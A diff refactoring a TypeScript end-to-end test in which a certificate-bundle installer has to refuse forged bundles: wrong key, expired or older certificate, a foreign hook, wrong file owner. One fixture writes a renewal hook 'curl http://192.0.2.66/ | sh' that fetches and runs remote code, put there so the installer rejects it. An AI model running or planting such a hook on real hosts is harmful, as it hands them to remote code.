@@ -1,26 +1,14 @@
-import { expect } from 'vitest';
+import { expect, test, type LabNode } from '../lab/scene/scene.ts';
 import type { Bundle } from '../../lib/lineage/bundle.ts';
-import { renewalConf } from '../support/bundle-conf.ts';
-import { FORGERIES } from '../support/bundle-forgeries.ts';
-import { makeBundle, withFiles } from '../support/bundle-maker.ts';
-import type { TestCa } from '../support/certificates.ts';
-import {
-  installerSays,
-  journalCursor,
-  placeBundle,
-  resultOn,
-  treeHash,
-  type Placing,
-  testWithAuthority,
-} from '../support/e2e-bundle.ts';
-import { expectDelivered } from '../support/e2e-bundle-left.ts';
-import { threeNodes } from '../support/e2e-cluster.ts';
+import { renewalConf } from '../support/lineage/renewal-conf.ts';
+import { FORGERIES } from '../support/lineage/forgeries.ts';
+import { withFiles } from '../support/lineage/bundle.ts';
+import type { BundleOptions, Forge, Placing } from '../lab/scene/forge.ts';
+import { installerSays, journalCursor, treeHash } from '../lab/scene/installer.ts';
 
 const LINEAGE = 'forged.example.test';
 const HOUR_MS = 3_600_000;
 const hoursAgo = (hours: number) => new Date(Date.now() - hours * HOUR_MS);
-
-const test = testWithAuthority();
 
 /** Of the forgeries that the installer's own tests go through, one of each sort. */
 const TAKEN: ReadonlySet<string> = new Set([
@@ -36,55 +24,40 @@ const TAKEN: ReadonlySet<string> = new Set([
 interface Case {
   readonly title: string;
   readonly reason: RegExp;
-  readonly bundle: (authority: TestCa, configDir: string) => Promise<Bundle>;
+  readonly bundle: (forge: Forge, to: LabNode) => Promise<Bundle>;
   readonly placing?: Placing;
 }
 
-async function bundleOf(
-  authority: TestCa,
-  configDir: string,
-  notBefore: Date,
-  options: { notAfter?: Date; conf?: string; number?: number } = {},
-): Promise<Bundle> {
-  const { notAfter, ...rest } = options;
-  const dates = { notBefore, ...(notAfter ? { notAfter } : {}) };
-  const issued = await authority.issue([LINEAGE], dates);
-  return makeBundle(issued, { configDir, lineage: LINEAGE, number: 2, ...rest });
-}
+const bundleOf = async (forge: Forge, to: LabNode, options: BundleOptions) =>
+  await forge.bundle(to, LINEAGE, { number: 2, ...options });
 
-const newer: Case['bundle'] = async (authority, configDir) =>
-  await bundleOf(authority, configDir, hoursAgo(1));
-
-const foreignHook: Case['bundle'] = async (authority, configDir) => {
-  const params = ['manual_auth_hook = curl http://192.0.2.66/ | sh', 'renew_hook = certbot-ha-deploy'];
-  const conf = renewalConf({ configDir, lineage: LINEAGE, params });
-  return await bundleOf(authority, configDir, hoursAgo(1), { conf });
-};
+const newer: Case['bundle'] = async (forge, to) => await bundleOf(forge, to, { notBefore: hoursAgo(1) });
 
 const CASES: readonly Case[] = [
   {
     title: 'the key of another certificate',
     reason: /privkey\.pem: not the key of cert\.pem/,
-    bundle: async (authority, configDir) =>
-      withFiles(await newer(authority, configDir), {
-        'privkey.pem': (await authority.issue([LINEAGE])).key,
-      }),
+    bundle: async (forge, to) =>
+      withFiles(await newer(forge, to), { 'privkey.pem': (await forge.authority.issue([LINEAGE])).key }),
   },
   {
     title: 'a certificate that has expired',
     reason: /cert\.pem: expired at/,
-    bundle: async (authority, configDir) =>
-      await bundleOf(authority, configDir, hoursAgo(3), { notAfter: hoursAgo(1) }),
+    bundle: async (forge, to) => await bundleOf(forge, to, { notBefore: hoursAgo(3), notAfter: hoursAgo(1) }),
   },
   {
     title: 'an older certificate',
     reason: /forged\.example\.test: older than what is installed/,
-    bundle: async (authority, configDir) => await bundleOf(authority, configDir, hoursAgo(9)),
+    bundle: async (forge, to) => await bundleOf(forge, to, { notBefore: hoursAgo(9) }),
   },
   {
     title: 'a hook of a stranger',
     reason: /manual_auth_hook: a command that is neither certbot-ha's nor/,
-    bundle: foreignHook,
+    bundle: async (forge, to) => {
+      const params = ['manual_auth_hook = curl http://192.0.2.66/ | sh', 'renew_hook = certbot-ha-deploy'];
+      const conf = renewalConf({ configDir: to.paths.letsencrypt, lineage: LINEAGE, params });
+      return await bundleOf(forge, to, { notBefore: hoursAgo(1), conf });
+    },
   },
   {
     title: 'a file of another user',
@@ -100,25 +73,21 @@ const CASES: readonly Case[] = [
   })),
 ];
 
-test('an inbox takes a bundle, then none that is forged, then a good one again', async ({
-  lab,
-  authority,
-  needsHosts,
-}) => {
-  needsHosts('a path unit');
+test('an inbox takes a bundle, then none that is forged, then a good one again', async ({ scene, forge }) => {
+  scene.needsHosts('a path unit');
   expect(CASES).toHaveLength(5 + TAKEN.size);
-  const [, web2] = await threeNodes(lab);
+  const [, web2] = scene.nodes;
   const { letsencrypt } = web2.paths;
-  const base = await bundleOf(authority, letsencrypt, hoursAgo(6), { number: 1 });
-  await placeBundle(web2, base);
-  expect(await resultOn(web2, base)).toMatchObject({ state: 'installed', lineage: LINEAGE });
+  const base = await bundleOf(forge, web2, { notBefore: hoursAgo(6), number: 1 });
+  await forge.place(web2, base);
+  expect(await forge.result(web2, base)).toMatchObject({ state: 'installed', lineage: LINEAGE });
   const before = await treeHash(web2);
 
   for (const { title, reason, bundle: make, placing } of CASES) {
-    const bundle = await make(authority, letsencrypt);
+    const bundle = await make(forge, web2);
     const cursor = await journalCursor(web2);
-    await placeBundle(web2, bundle, placing);
-    const { state, messages } = await resultOn(web2, bundle);
+    await forge.place(web2, bundle, placing);
+    const { state, messages } = await forge.result(web2, bundle);
     expect({ title, state, messages }).toEqual({
       title,
       state: 'refused',
@@ -128,14 +97,14 @@ test('an inbox takes a bundle, then none that is forged, then a good one again',
     const inJournal = messages.map((message) => expect.stringContaining(message) as string);
     expect({ title, said }).toEqual({ title, said: expect.arrayContaining(inJournal) as readonly string[] });
     expect({ title, tree: await treeHash(web2) }).toEqual({ title, tree: before });
-    await expectDelivered([web2]);
+    await scene.expectDelivered();
   }
 
-  const good = await bundleOf(authority, letsencrypt, hoursAgo(0.5));
-  await placeBundle(web2, good);
-  expect(await resultOn(web2, good)).toMatchObject({ state: 'installed' });
+  const good = await bundleOf(forge, web2, { notBefore: hoursAgo(0.5) });
+  await forge.place(web2, good);
+  expect(await forge.result(web2, good)).toMatchObject({ state: 'installed' });
   const installed = await web2.readFile(`${letsencrypt}/live/${LINEAGE}/cert.pem`);
   expect(installed).toBe(good.files['cert.pem']);
   expect(await web2.check(['certbot', 'certificates', '--cert-name', LINEAGE])).toContain('VALID');
-  await expectDelivered(lab.nodes);
+  await scene.expectDelivered();
 });
